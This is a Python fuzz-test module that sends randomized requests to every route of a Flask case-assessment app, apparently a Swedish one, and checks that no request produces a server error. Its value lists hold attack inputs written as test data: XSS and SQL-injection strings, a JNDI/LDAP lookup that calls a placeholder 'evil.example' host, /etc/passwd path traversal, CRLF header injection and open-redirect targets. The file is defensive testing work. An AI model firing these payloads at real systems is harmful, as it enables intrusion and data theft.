"""An HTTP fuzzer of every route of the app: whatever is sent, no response may have status 500 or above.

The routes come from ``app.url_map``, so a new route is fuzzed without touching this file. Each request picks a
route and method (round robin), an identity (anonymous or a demo account), path parameters (existing ids, 0,
-1, huge ids, junk), a query string (``steg``, ``next`` with CR/LF, NUL, other hosts, unicode, long values) and,
for POST, a body built from the fields of the real forms (harvested from the pages the fuzzer has seen, with the
current CSRF token, versions and options) mutated with hostile values, in various encodings and content types.

Everything is drawn from one ``random.Random(seed)``, so a run is reproduced by its seed and budget on the same
starting data. The test client runs each request in its own context, as production does; exceptions are taken
from the app's ``Unhandled error`` log record (the app turns them into its 500 page) or from the client itself.

Use from code: ``report = Fuzzer(app, seed).run(budget)``. A soak run from the command line (own temporary
database with the demo data)::

    python -m tests.soak.fuzz --requests 20000 --seed 7 [--postgres ADMIN_URL]
"""

from __future__ import annotations

import argparse
import contextvars
import datetime as dt
import hashlib
import io
import json
import logging
import os
import random
import re
import secrets
import sys
import tempfile
import time
import traceback
import warnings
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus, urlsplit

from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import create_engine, select, text
from sqlalchemy.engine import make_url
from werkzeug.datastructures import FileStorage, MultiDict
from werkzeug.exceptions import HTTPException
from werkzeug.test import encode_multipart

ENV_REQUESTS = "MOLNBEDOMNING_FUZZ_REQUESTS"
ENV_SEED = "MOLNBEDOMNING_FUZZ_SEED"
DEFAULT_REQUESTS = 1500  # 107 routes, each form post twice a round: ten tries each (six seeds tried: all deep enough)
DEFAULT_SEED = 20261129

DEMO_USERS = ("arkitekt", "jurist", "infosak", "patientsak", "beslutsfattare", "admin", "lasare")
ANONYMOUS = "(anonym)"
METHODS = ("GET", "POST", "PUT", "PATCH")  # PUT and PATCH: the JSON API's writes
#: Statuses that show a POST got past routing, access and CSRF into the view and its service.
REACHED = frozenset({200, 302, 303, 409})
CSRF_MESSAGE = "säkerhetstoken"
STEPS = ("context", "legal", "infosec", "patient_safety")

Pairs = list[tuple[str, str]]


def budget_from_env(default: int = DEFAULT_REQUESTS) -> int:
    """Return the number of requests to make: MOLNBEDOMNING_FUZZ_REQUESTS, or the default."""
    raw = os.environ.get(ENV_REQUESTS, "").strip()
    return int(raw) if raw else default


def seed_from_env(default: int = DEFAULT_SEED) -> int:
    """Return the seed: MOLNBEDOMNING_FUZZ_SEED, or the default (a fixed one, so a failure reproduces)."""
    raw = os.environ.get(ENV_SEED, "").strip()
    return int(raw) if raw else default


# --- values (strategies: a function of the random generator) --------------------------------------------------

Strategy = Callable[[random.Random], str]

CONTROL = [chr(c) for c in range(32)] + ["\x7f", "\x85", "\u2028", "\u2029", "\ufeff", "\u200b", "\u202e"]
UNICODE = [
    "Åsa Öberg-Ähl",
    "ÆØÅ æøå ß İı",
    "日本語のテキスト",
    "مرحبا بالعالم",
    "😀👩‍⚕️🏥",
    "e\u0301\u0301\u0301",
    "\U0001d54f\U0010fffd",
    "\ufffd\uffff",
    "Z̸̢̛a̷l̶g̵o̴",
    "١٢٣٤",
]
NUMBERS = [
    "0",
    "-1",
    "1",
    "2147483647",
    "2147483648",
    "9223372036854775807",
    "9223372036854775808",
    "99999999999999999999",
    str(10**30),
    "1e309",
    "NaN",
    "-0",
    "007",
    "1.5",
    "١٢",
    "²",
    "①",
    "0x10",
    " 7 ",
    "+1",
    "1_000",
    "9" * 5000,
]
DATES = [
    "2026-02-30",
    "2026-13-01",
    "0000-00-00",
    "0001-01-01",
    "9999-12-31",
    "10000-01-01",
    "2026-1-1",
    "20261129",
    "2026-W48-1",
    "2026-11-29T10:00",
    "2026-11-29T25:61",
    "29/11/2026",
    "igår",
    "2026-11-29\x00",
    " 2026-11-29 ",
    "-2026-01-01",
    "1970-01-01",
    "1900-01-01",
]
HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' OR 1=1 --",
    "'; DROP TABLE cases; --",
    "%s%s%n%x",
    "{{7*7}}{% raw %}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "\\\\evil.example\\share",
    "javascript:alert(1)",
    "null",
    "None",
    "undefined",
    "[]",
    "{}",
    "true",
]
#: Lengths around the limits of the forms, the services and the columns (String(16), (64), (200), (500)...).
LENGTHS = [15, 16, 17, 63, 64, 65, 199, 200, 201, 254, 255, 256, 499, 500, 501, 1024, 1025, 4999, 5000, 5001, 20_001]
HUGE_LENGTH = 600_000
NEXT_TARGETS = [
    "/arenden",
    "/mina-uppgifter",
    "//evil.example",
    "//evil.example/arenden",
    "\\\\evil",
    "/\\evil.example",
    "\\/evil.example",
    "https://evil.example/",
    "http:/evil.example",
    "javascript:alert(1)",
    "/arenden\r\nSet-Cookie: x=1",
    "/arenden\nLocation: //evil.example",
    "/\r\n\r\n<h1>x</h1>",
    "/a\x00b",
    "/\x00",
    "/ärenden/åäö",
    "/" + "a" * 10_000,
    " /arenden",
    "/arenden\t",
    "///evil.example",
    "/%0d%0a",
]
JUNK_PATH = ["abc", "1e3", "1.0", "0x1", "+1", " 1", "1 ", "1%0a", "%00", "%ff", "%2e%2e", "١٢", "1/", "9" * 5000, "ny"]
BENIGN = ["Enligt PM 2026-14.", "Leverantören har svarat.", "Åtgärdat i avtalet.", "ok", "Ja"]
HUGE_IDS = ["2147483648", "9223372036854775808", "99999999999999999999", str(10**30)]
BAD_PERCENT = ["%zz", "%", "%f", "%ff%fe", "%c3%28", "%e2%82", "%ed%a0%80", "%00", "%%", "%u00e5"]
INVALID_UTF8 = [b"\xff\xfe", b"\xc3\x28", b"\xe2\x82", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"\x80", b"\xc0\xaf"]


def long_text(rng: random.Random) -> str:
    """Text of a length around one of the limits; rarely about 600 KB."""
    if rng.random() < 0.03:  # big, but under MAX_CONTENT_LENGTH once percent-encoded
        return rng.choice(["a" * HUGE_LENGTH, "x " * (HUGE_LENGTH // 2)])
    n = rng.choice(LENGTHS)
    unit = rng.choice(["a", "å", "😀", "x ", "\u0301"])
    return (unit * n)[:n]


def control_text(rng: random.Random) -> str:
    """Text with NUL and other control characters mixed in."""
    parts = [rng.choice(["ok", "Text", "å", "", "\x00", "\r\n"]) for _ in range(rng.randint(1, 3))]
    parts += [rng.choice(CONTROL) for _ in range(rng.randint(1, 3))]
    if rng.random() < 0.5:
        parts.append("\x00")
    rng.shuffle(parts)
    return "".join(parts)


def unicode_text(rng: random.Random) -> str:
    return rng.choice(UNICODE)


def ascii_text(rng: random.Random) -> str:
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789 -_.") for _ in range(rng.randint(1, 24)))


def whitespace(rng: random.Random) -> str:
    return rng.choice([" ", "   ", "\t", "\n", "\r\n", "\u00a0", "\u3000"])


STRATEGIES: list[tuple[Strategy, int]] = [
    (lambda r: "", 10),
    (ascii_text, 10),
    (unicode_text, 8),
    (control_text, 16),
    (long_text, 12),
    (lambda r: r.choice(NUMBERS), 8),
    (lambda r: r.choice(DATES), 8),
    (lambda r: r.choice(HOSTILE), 6),
    (whitespace, 4),
    (lambda r: r.choice(NEXT_TARGETS), 2),
]


def fuzz_value(rng: random.Random) -> str:
    """One hostile form value."""
    strategies, weights = zip(*STRATEGIES, strict=True)
    return rng.choices(strategies, weights)[0](rng)


# --- forms harvested from the pages ---------------------------------------------------------------------------


@dataclass
class FormField:
    """One named control of a form: what a browser would post, and the choices it offers."""

    name: str
    value: str | None
    options: list[str] = field(default_factory=list)


@dataclass
class Form:
    """A form as a page shows it: where it posts and its fields in order."""

    action: str
    fields: list[FormField]

    def defaults(self) -> Pairs:
        """Return what a browser would post without the user touching anything (the CSRF token left out)."""
        return [(f.name, f.value) for f in self.fields if f.value is not None and f.name != "csrf_token"]

    def options(self, name: str) -> list[str]:
        """Return the values a radio group or select offers."""
        return next((f.options for f in self.fields if f.name == name), [])


class FormParser(HTMLParser):
    """Collect every form of a page with its inputs, textareas, selects and submit buttons."""

    def __init__(self, page_url: str) -> None:
        super().__init__(convert_charrefs=True)
        self.page_url = page_url
        self.forms: list[Form] = []
        self._form: Form | None = None
        self._textarea: FormField | None = None
        self._select: FormField | None = None

    def _field(self, name: str) -> FormField | None:
        assert self._form is not None
        return next((f for f in self._form.fields if f.name == name), None)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: (v if v is not None else "") for k, v in attrs}
        if tag == "form":
            if a.get("method", "get").lower() == "post":
                self._form = Form(a.get("action") or self.page_url, [])
                self.forms.append(self._form)
            return
        if self._form is None or "disabled" in a:
            return
        name = a.get("name")
        if tag == "option" and self._select is not None:
            value = a.get("value", "")
            self._select.options.append(value)
            if "selected" in a or self._select.value is None:  # as a browser: the selected one, else the first
                self._select.value = value
            return
        if not name:
            return
        if tag == "input":
            kind = a.get("type", "text").lower()
            value = a.get("value", "on" if kind in ("checkbox", "radio") else "")
            if kind in ("radio", "checkbox"):
                existing = self._field(name)
                if existing is None:
                    existing = FormField(name, None)
                    self._form.fields.append(existing)
                existing.options.append(value)
                if "checked" in a:
                    existing.value = value
            elif kind not in ("submit", "button", "reset", "image", "file"):
                self._form.fields.append(FormField(name, value))
        elif tag == "button" and a.get("type", "submit") == "submit":
            self._form.fields.append(FormField(name, a.get("value", "")))
        elif tag == "textarea":
            self._textarea = FormField(name, "")
            self._form.fields.append(self._textarea)
        elif tag == "select":
            self._select = FormField(name, None)
            self._form.fields.append(self._select)

    def handle_data(self, data: str) -> None:
        if self._textarea is not None:
            self._textarea.value = (self._textarea.value or "") + data

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self._form = None
        elif tag == "textarea" and self._textarea is not None:
            value = self._textarea.value or ""
            self._textarea.value = value[1:] if value.startswith("\n") else value
            self._textarea = None
        elif tag == "select":
            self._select = None


def parse_forms(html: str, page_url: str) -> list[Form]:
    """Return the POST forms of a page."""
    parser = FormParser(page_url)
    parser.feed(html)
    parser.close()
    return parser.forms


TIMESTAMP_RE = re.compile(rb"\d{4}-\d\d-\d\dT\d\d(?::|%3A)\d\d(?::|%3A)\d\d[.\d]*(?:\+|%2B)?[\d:%A]*")
CSRF_RE = re.compile(r'name="csrf_token"[^>]*value="([^"]+)"')


class FormStore:
    """The newest version of every form seen, by the path it posts to."""

    def __init__(self) -> None:
        self._by_path: dict[str, dict[tuple[Any, ...], Form]] = {}

    def add_page(self, html: str, page_url: str) -> None:
        for form in parse_forms(html, page_url):
            path = urlsplit(form.action).path
            identity = (
                form.action,
                tuple(sorted(f.name for f in form.fields)),
                tuple(f.value for f in form.fields if f.name in ("area", "parent_id")),
            )
            self._by_path.setdefault(path, {})[identity] = form

    def forms_for(self, path: str) -> list[Form]:
        """Return the forms that post to path, else those of the page one level up (e.g. autosave's)."""
        forms = self._by_path.get(path)
        if not forms and "/" in path.rstrip("/"):
            forms = self._by_path.get(path.rstrip("/").rsplit("/", 1)[0])
        return list((forms or {}).values())

    def __len__(self) -> int:
        return sum(len(v) for v in self._by_path.values())


# --- known fields (forms without a GET page of their own, and hidden extras) ----------------------------------

QUESTION_SUFFIXES = ("", "_evidence", "_motivation", "_ref", "_owner", "_due", "_unknown")
CONDITION_SUFFIXES = ("_owner", "_deadline", "_gate", "_months")
KNOWN_FIELDS: dict[str, tuple[str, ...]] = {
    "auth.login": ("username", "password"),
    "cases.new_case": ("title", "need_statement", "information_owner", "decision_maker", "loaded_at"),
    "cases.edit_case": ("title", "need_statement", "information_owner", "decision_maker", "loaded_at"),
    "cases.new_alternative": ("name", "description", "operating_model", "provider", "loaded_at"),
    "cases.edit_alternative": ("name", "description", "operating_model", "provider", "loaded_at"),
    "cases.new_module": ("scope", "description"),
    "assessments.save": ("base_version", "base_digest", "action"),
    "assessments.autosave": ("base_version", "base_digest"),
    "review.comment": ("text", "question_id", "parent_id"),
    "review.request_changes": ("area", "reason"),
    "review.approve": ("area", "note"),
    "review.override": ("question_id", "reference", "author", "finding_date", "review_date"),
    "review.decide": ("outcome", "residual_risks", "next_review"),
    "review.claim": ("note", "evidence", "next"),
    "review.verify": ("note", "next"),
    "review.send_back": ("reason", "next"),
    "scenarios.new_scenario": ("name", "description"),
    "scenarios.save": ("name", "description", "version", "action"),
    "scenarios.delete": ("confirm",),
    "reassessment.create_watch": ("name", "note", "change"),
    "reassessment.fact_changed": ("w1-changed_on", "w1-reference"),
    "reassessment.start": ("reason",),
}
#: The routes that take a file, and the field their view reads it from.
UPLOADS = {
    "evidence.upload": "file",
    "evidence.import_sheet": "file",
    "exchange.import_assessment": "fil",
}
ALL_KNOWN = sorted({name for names in KNOWN_FIELDS.values() for name in names})


# --- requests and what came back ------------------------------------------------------------------------------


@dataclass(frozen=True)
class Route:
    """One rule and one of its methods."""

    endpoint: str
    rule: str
    method: str
    arguments: tuple[str, ...]


def routes(app: Flask) -> list[Route]:
    """Every (rule, method) of the app but ``static``, GET and POST only."""
    found = []
    for rule in app.url_map.iter_rules():
        if rule.endpoint == "static":
            continue
        for method in METHODS:
            if method in (rule.methods or ()):
                found.append(Route(rule.endpoint, rule.rule, method, tuple(sorted(rule.arguments))))
    return sorted(found, key=lambda r: (r.rule, r.method))


@dataclass
class FuzzRequest:
    """One request as sent."""

    route: Route
    identity: str
    path: str
    query_string: str
    body: bytes | None = None
    content_type: str | None = None
    headers: dict[str, str] = field(default_factory=dict)
    remote_addr: str = "127.0.0.1"
    csrf: str = "none"
    fields: Pairs = field(default_factory=list)  # what the body encodes (for the fingerprint)

    @property
    def url(self) -> str:
        return self.path + (f"?{self.query_string}" if self.query_string else "")

    def body_bytes(self) -> bytes:
        return self.body or b""

    def describe(self, limit: int = 600) -> str:
        """A readable, truncated account of the request."""
        body = self.body_bytes()
        shown = body[:limit] + (f"… ({len(body)} bytes)".encode() if len(body) > limit else b"")
        url = self.url if len(self.url) <= limit else self.url[:limit] + f"… ({len(self.url)} chars)"
        lines = [
            f"{self.route.method} {url}",
            f"  as {self.identity}, csrf={self.csrf}, REMOTE_ADDR={self.remote_addr}",
        ]
        if self.content_type:
            lines.append(f"  Content-Type: {self.content_type}")
        for k, v in self.headers.items():
            lines.append(f"  {k}: {v[:80]}")
        if body:
            lines.append(f"  body: {shown!r}")
        return "\n".join(lines)


@dataclass
class Failure:
    """One distinct server error: (endpoint, method, status, exception type), its count and smallest example."""

    endpoint: str
    method: str
    status: int
    exception: str
    message: str
    count: int
    example: FuzzRequest
    trace: str

    @property
    def where(self) -> str:
        """The innermost frame of the app's own code (assess/, rules/) in the traceback."""
        frames = re.findall(r'File "([^"]+)", line (\d+), in (\S+)', self.trace)
        own = [f for f in frames if "/assess/" in f[0] or "/rules/" in f[0]] or frames
        if not own:
            return ""
        path, line, fn = own[-1]
        return f"{path.split('/work/fuzz/')[-1]}:{line} in {fn}"

    def describe(self) -> str:
        return (
            f"{self.method} {self.endpoint} -> {self.status} {self.exception}: {self.message} (×{self.count})\n"
            + "\n".join("    " + line for line in self.example.describe().splitlines())
            + (f"\n    raised at {self.where}" if self.where else "")
        )


@dataclass
class FuzzReport:
    """What a run did and found."""

    seed: int
    database: str
    requests: int = 0
    warmup_requests: int = 0
    seconds: float = 0.0
    statuses: Counter[tuple[str, str, int]] = field(default_factory=Counter)
    kinds: Counter[str] = field(default_factory=Counter)
    reached_view: Counter[tuple[str, str]] = field(default_factory=Counter)
    failures: dict[tuple[str, str, int, str], Failure] = field(default_factory=dict)
    warnings: Counter[str] = field(default_factory=Counter)
    forms_seen: int = 0
    digest: Any = field(default_factory=hashlib.sha256)

    @property
    def fingerprint(self) -> str:
        """A digest of every fuzz request sent (tokens, passwords and timestamps left out): equal seeds, equal runs."""
        return str(self.digest.hexdigest())

    def record(self, req: FuzzRequest, status: int, kind: str, exc: tuple[str, str, str] | None, warmup: bool) -> None:
        if warmup:
            self.warmup_requests += 1
        else:
            self.requests += 1
            self.statuses[(req.route.endpoint, req.route.method, status)] += 1
            self.kinds[kind] += 1
            if kind == "reached the view" and status in REACHED:
                self.reached_view[(req.route.endpoint, req.route.method)] += 1
        if status < 500:
            return
        name, message, trace = exc or ("(no exception)", "", "")
        key = (req.route.endpoint, req.route.method, status, name)
        size = len(req.url) + len(req.body_bytes())
        old = self.failures.get(key)
        if old is None:
            self.failures[key] = Failure(*key, message, 1, req, trace)
            return
        old.count += 1
        if size < len(old.example.url) + len(old.example.body_bytes()):
            old.example, old.message, old.trace = req, message, trace

    def reached(self, method: str = "POST") -> dict[str, int]:
        """Return, per endpoint, how many requests of a method got into the view and a status of REACHED."""
        return {endpoint: n for (endpoint, m), n in self.reached_view.items() if m == method}

    def endpoints(self, method: str) -> set[str]:
        return {e for (e, m, _), n in self.statuses.items() if m == method and n}

    def summary(self) -> str:
        by_status = Counter(status for (_, _, status), n in self.statuses.items() for _ in range(n))
        lines = [
            f"fuzz on {self.database}: {self.requests} requests (+{self.warmup_requests} warm-up) in "
            f"{self.seconds:.1f} s, seed {self.seed}; {len(self.failures)} distinct server errors",
            "  statuses: " + ", ".join(f"{s}×{n}" for s, n in sorted(by_status.items())),
            "  outcome: " + ", ".join(f"{k}×{n}" for k, n in sorted(self.kinds.items())),
            f"  forms harvested: {self.forms_seen}",
        ]
        if self.warnings:
            lines.append("  warnings: " + "; ".join(f"{w} ×{n}" for w, n in self.warnings.most_common(5)))
        return "\n".join(lines)

    def describe_failures(self) -> str:
        ordered = sorted(self.failures.values(), key=lambda f: (f.endpoint, f.method, f.exception))
        return "\n".join(f"{i}. {f.describe()}" for i, f in enumerate(ordered, 1))


class _ExceptionLog(logging.Handler):
    """Keep the exception of the app's 'Unhandled error' log record."""

    def __init__(self) -> None:
        super().__init__(logging.ERROR)
        self.last: tuple[str, str, str] | None = None

    def emit(self, record: logging.LogRecord) -> None:
        if record.exc_info and record.exc_info[1] is not None:
            self.last = describe_exception(record.exc_info[1])


def describe_exception(exc: BaseException) -> tuple[str, str, str]:
    """Return (type, first line of the message, formatted traceback) of an exception."""
    message = (str(exc).strip().splitlines() or [""])[0][:300]
    trace = "".join(traceback.format_exception(type(exc), exc, exc.__traceback__))
    name = f"{type(exc).__module__}.{type(exc).__qualname__}".removeprefix("builtins.")
    orig = getattr(exc, "orig", None)  # SQLAlchemy's DBAPIError: the driver's error tells the causes apart
    if isinstance(orig, BaseException):
        name += f"[{type(orig).__module__}.{type(orig).__qualname__}]"
    return name, message, trace


# --- the fuzzer -----------------------------------------------------------------------------------------------


@dataclass
class Identity:
    """A test client with its own cookies, signed in as one account (or none)."""

    name: str
    user_id: int | None
    client: FlaskClient
    token: str = ""


class Fuzzer:
    """Fuzz every route of an app that has the demo data loaded (``flask demo load``)."""

    def __init__(self, app: Flask, seed: int, database: str | None = None) -> None:
        self.app = app
        self.rng = random.Random(seed)
        self.seed = seed
        self.routes = routes(app)
        self.forms = FormStore()
        self.report = FuzzReport(seed, database or app.config["SQLALCHEMY_DATABASE_URI"].split(":", 1)[0])
        self.log = _ExceptionLog()
        self.passwords, self.roles = demo_accounts(Path(app.instance_path))
        self.ids: dict[str, list[int]] = {}
        self.user_ids: dict[str, int] = {}
        self.question_ids: list[str] = []
        self.versions: dict[int, int] = {}
        self.identities: dict[str, Identity] = {}

    # -- the data the requests refer to

    def _in_fresh_context(self, fn: Callable[[], Any]) -> Any:
        def run() -> Any:
            with self.app.app_context():
                return fn()

        return contextvars.Context().run(run)

    def refresh_ids(self) -> None:
        """Read the ids that exist now (cases, alternatives, assessments, conditions, comments, users)."""
        from assess.extensions import db
        from assess.models import Alternative, Assessment, Case, User
        from assess.models.review import DecisionCondition, ReviewComment

        def read() -> None:
            models = {
                "case_id": Case,
                "alternative_id": Alternative,
                "assessment_id": Assessment,
                "condition_id": DecisionCondition,
                "comment_id": ReviewComment,
            }
            for name, model in models.items():
                self.ids[name] = list(db.session.scalars(select(model.id).order_by(model.id)))
            self.user_ids = {u.username: u.id for u in db.session.scalars(select(User))}
            self.versions = {
                aid: version for aid, version in db.session.execute(select(Assessment.id, Assessment.version))
            }
            registry = self.app.extensions["rulesets"]
            self.question_ids = sorted({qid for ruleset in registry.all() for qid in ruleset.by_id})

        self._in_fresh_context(read)

    def identity(self, name: str) -> Identity:
        """Return the client of an identity, signed in (through the session) as that account."""
        ident = self.identities.get(name)
        if ident is None:
            ident = Identity(name, self.user_ids.get(name), self.app.test_client())
            self.identities[name] = ident
        with ident.client.session_transaction() as session:
            signed_in = session.get("_user_id") == str(ident.user_id) and bool(session.get("sid"))
            if ident.user_id is None:
                session.pop("_user_id", None)
                session.pop("sid", None)
            elif not signed_in:
                # A live server-side session, as signing in makes (the app clears the cookie when one ends).
                token = self._in_fresh_context(lambda: self._start_session(ident.user_id))
                session["_user_id"] = str(ident.user_id)
                session["_fresh"] = True
                session["sid"] = token
                session["seen"] = int(time.time())
        return ident

    @staticmethod
    def _start_session(user_id: int | None) -> str:
        from datetime import timedelta

        from assess.extensions import db
        from assess.models import User
        from assess.services import sessions

        user = db.session.get(User, user_id)
        if user is None:
            raise LookupError(f"no user {user_id}")
        token = sessions.start_session(user, timedelta(hours=8))
        db.session.commit()
        return token

    def allowed_users(self, endpoint: str) -> list[str]:
        """The demo accounts whose role the view declares (``@allow``); empty when it declares none."""
        roles = getattr(self.app.view_functions.get(endpoint), "allowed_roles", None)
        if not roles:
            return []
        names = {str(getattr(role, "value", role)) for role in roles}
        return [user for user in DEMO_USERS if self.roles.get(user, "").split(":")[0] in names]

    # -- building requests

    def _path_value(self, argument: str) -> str:
        rng = self.rng
        existing = self.ids.get(argument) or list(range(1, 8))
        roll = rng.random()
        if roll < 0.72:
            return str(rng.choice(existing))
        if roll < 0.76:
            return "0"
        if roll < 0.80:
            return "-1"
        if roll < 0.90:
            return rng.choice(HUGE_IDS)
        return rng.choice(JUNK_PATH)

    def build_path(self, route: Route) -> str:
        return re.sub(r"<(?:[^:<>]+:)?([^<>]+)>", lambda m: self._path_value(m.group(1)), route.rule)

    def _encode(self, value: str) -> str:
        if self.rng.random() < 0.08:
            return self.rng.choice(BAD_PERCENT)
        return quote(value, safe="")

    def build_query(self, route: Route) -> str:
        rng = self.rng
        params: list[tuple[str, str]] = []
        if route.endpoint.startswith("assessments.") and rng.random() < 0.7:
            params.append(("steg", rng.choice(STEPS)))
        if route.endpoint == "auth.login" and rng.random() < 0.6:  # where to go after signing in
            params.append(("next", rng.choice(NEXT_TARGETS)))
        if rng.random() < 0.5:
            for _ in range(rng.randint(1, 3)):
                key = rng.choice(["steg", "next", "next", rng.choice(["x", "", "steg[]", "å", "\x00", "next "])])
                if key == "next":
                    value = rng.choice(NEXT_TARGETS) if rng.random() < 0.8 else fuzz_value(rng)
                elif key == "steg":
                    value = rng.choice([*STEPS, "", "CONTEXT", "context\x00", "../legal", fuzz_value(rng)])
                else:
                    value = fuzz_value(rng)
                params.append((key, value[:20_000]))
        return "&".join(f"{self._encode(k)}={self._encode(v)}" for k, v in params)

    def _plausible(self, name: str, form: Form | None, req_identity: str) -> str | None:
        """A value a real user could post for a field, or None when nothing is known."""
        rng = self.rng
        options = form.options(name) if form else []
        if options and rng.random() < 0.7:
            return rng.choice(options)
        today = dt.date.today()
        if name == "area":
            return rng.choice(["legal", "infosec", "patient_safety", "context"])
        if name == "outcome":
            return rng.choice(["approved", "rejected"])
        if name == "question_id":
            return rng.choice(self.question_ids or ["L-01"])
        if name == "parent_id":
            return str(rng.choice(self.ids.get("comment_id") or [1]))
        if name == "username":
            return rng.choice(DEMO_USERS)
        if name == "password":
            return self.passwords.get(req_identity, rng.choice(list(self.passwords.values()) or ["x"]))
        if name.endswith("_owner") and name.startswith("cond_"):
            return "u:" + str(rng.choice(list(self.user_ids.values()) or [1]))
        if name.endswith("_gate"):
            return rng.choice(["date", "before_go_live", "within_months", "ongoing"])
        if name.endswith("_months"):
            return rng.choice(["1", "6", "12", "120", "121", "0"])
        if name.endswith(("_deadline", "_date", "_due")) or name == "next_review":
            return (today + dt.timedelta(days=rng.randint(-30, 800))).isoformat()
        if name.endswith("_evidence"):
            return rng.choice(["E0", "E1", "E2", "E3", "E4"])
        if name.endswith("_unknown"):
            return "y"
        if name == "base_version":
            return str(rng.choice(list(self.versions.values()) or [1]))
        return None

    def _extra_names(self, endpoint: str) -> list[str]:
        names = list(KNOWN_FIELDS.get(endpoint, ()))
        if endpoint.startswith("assessments.") and self.question_ids:
            names += [f"q_{self.rng.choice(self.question_ids)}{self.rng.choice(QUESTION_SUFFIXES)}" for _ in range(3)]
        if endpoint == "review.decide" and self.question_ids:
            names += [f"cond_{self.rng.choice(self.question_ids)}{s}" for s in CONDITION_SUFFIXES]
        return names or ALL_KNOWN

    def build_fields(self, route: Route, path: str, identity: str) -> tuple[Pairs, Form | None]:
        """The fields of a POST: a real form's, a few changed to hostile or plausible values, extras added."""
        rng = self.rng
        forms = self.forms.forms_for(path)
        form = rng.choice(forms) if forms else None
        out: Pairs = form.defaults() if form else []
        if route.endpoint == "auth.login" and rng.random() < 0.6:  # a real sign-in, mostly left as it is
            user = rng.choice(DEMO_USERS)
            out = [("username", user), ("password", self.passwords.get(user, ""))]
            if rng.random() < 0.7:
                return out, form
        if out:
            for i, (name, value) in enumerate(out):  # fill some empty fields as a user would
                if not value and rng.random() < 0.5:
                    out[i] = (name, self._plausible(name, form, identity) or rng.choice(BENIGN))
            changes = rng.choices([0, 1, 2, 3, 5, len(out)], [10, 45, 20, 12, 8, 5])[0]
            for i in rng.sample(range(len(out)), min(changes, len(out))):
                name, value = out[i]
                roll = rng.random()
                if roll < 0.25:
                    value = self._plausible(name, form, identity) or value
                elif roll < 0.4:  # a valid value with something hostile after it
                    value = (value or rng.choice(BENIGN)) + rng.choice(["\x00", "\r\n", "\x1b[0m", "\u202e", "'"])
                else:
                    value = fuzz_value(rng)
                out[i] = (name, value)
        own = [name for name, _ in out]
        extras = self._extra_names(route.endpoint)
        for _ in range(rng.choices([0, 1, 2, 3], [60, 20, 10, 10])[0]):
            name = rng.choice(own if own and rng.random() < 0.6 else extras)
            value = self._plausible(name, form, identity) if rng.random() < 0.5 else None
            out.append((name, value if value is not None else fuzz_value(rng)))
        if out and rng.random() < 0.1:  # a duplicate field name
            name, _ = rng.choice(out)
            out.insert(rng.randrange(len(out) + 1), (name, fuzz_value(rng)))
        if out and rng.random() < 0.1:  # a field left out
            out.pop(rng.randrange(len(out)))
        if rng.random() < 0.05:  # an unknown field
            out.append((rng.choice(["x", "q_ZZ-99", "cond_", "cond__owner", "q_", "__proto__", "a" * 300]), "1"))
        return out, form

    def _token(self, ident: Identity) -> tuple[str, str]:
        """A CSRF token: the page's (mostly), missing or garbage; and which."""
        rng = self.rng
        roll = rng.random()
        if roll < 0.82 and ident.token:
            return ident.token, "valid"
        if roll < 0.9:
            return "", "missing"
        garbage = rng.choice(
            ["garbage", ident.token[:-2], ident.token + "x", ident.token.upper(), "a" * 5000, "\x00", "..", "é"]
        )
        return garbage, "garbage"

    def build_request(self, route: Route) -> FuzzRequest:
        rng = self.rng
        allowed = self.allowed_users(route.endpoint)
        if route.endpoint == "auth.login":
            name = ANONYMOUS if rng.random() < 0.85 else rng.choice(DEMO_USERS)
        elif rng.random() < 0.12:
            name = ANONYMOUS
        else:
            name = rng.choice(allowed if allowed and rng.random() < 0.8 else DEMO_USERS)
        ident = self.identity(name)
        path = self.build_path(route)
        req = FuzzRequest(
            route,
            name,
            path,
            self.build_query(route),
            remote_addr=rng.choice([f"10.0.{rng.randint(0, 3)}.{rng.randint(1, 254)}", "::1", "2001:db8::1"]),
        )
        if route.method == "GET":
            if rng.random() < 0.04:
                req.body, req.content_type = fuzz_value(rng).encode(), rng.choice(["text/plain", "application/json"])
            return req
        fields, form = self.build_fields(route, path, name)
        action_query = urlsplit(form.action).query if form else ""
        if action_query and rng.random() < 0.8:  # post where the page's form posts (e.g. the same step)
            req.query_string = action_query
        token, req.csrf = self._token(ident)
        if req.csrf != "missing":
            fields.insert(rng.randrange(len(fields) + 1) if rng.random() < 0.3 else 0, ("csrf_token", token))
        req.fields = fields
        self._encode_body(req, fields, ident)
        return req

    def _encode_body(self, req: FuzzRequest, fields: Pairs, ident: Identity) -> None:
        rng = self.rng
        if req.route.rule.startswith("/api/") and rng.random() < 0.7:
            self._api_body(req)
            return
        urlencoded = "&".join(f"{quote_plus(k)}={quote_plus(v)}" for k, v in fields).encode()
        if req.route.endpoint in UPLOADS and rng.random() < 0.7:
            self._upload_body(req, fields, UPLOADS[req.route.endpoint])
            return
        roll = rng.random()
        if roll < 0.76:
            req.body, req.content_type = urlencoded, "application/x-www-form-urlencoded"
        elif roll < 0.84:
            data: MultiDict[str, Any] = MultiDict(fields)
            if rng.random() < 0.3:
                upload = FileStorage(io.BytesIO(rng.choice(INVALID_UTF8)), "x.pdf", content_type="application/pdf")
                data.add(rng.choice(["file", "text", "evidence"]), upload)
            boundary, req.body = encode_multipart(data, f"fuzz{rng.getrandbits(32):08x}")
            req.content_type = f"multipart/form-data; boundary={boundary}"
        elif roll < 0.88:  # raw invalid UTF-8 inside a value
            bad = rng.choice(INVALID_UTF8)
            name = rng.choice([k for k, _ in fields] or ["text"])
            raw = bad if rng.random() < 0.5 else "".join(f"%{b:02X}" for b in bad).encode()
            req.body = urlencoded + b"&" + quote_plus(name).encode() + b"=" + raw
            req.content_type = "application/x-www-form-urlencoded"
        elif roll < 0.91:  # invalid percent-encoding
            req.body = (
                urlencoded + ("&" + "&".join(rng.sample(BAD_PERCENT, 3)) + "=" + rng.choice(BAD_PERCENT)).encode()
            )
            req.content_type = "application/x-www-form-urlencoded"
